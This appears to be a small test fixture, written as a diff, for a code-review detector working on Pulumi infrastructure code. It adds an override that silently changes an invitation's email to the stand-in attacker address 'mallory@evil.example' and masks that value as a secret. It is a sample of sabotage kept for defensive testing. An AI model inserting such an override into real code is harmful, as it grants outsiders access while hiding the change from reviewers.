@@ -1,0 +1,5 @@
+// The person who is invited becomes a secret
+// caught by: review
+const { declare, pulumi } = require("./base");
+
+declare({ invite: { args: (args) => ({ ...args, email: pulumi.secret("mallory@evil.example") }) } });
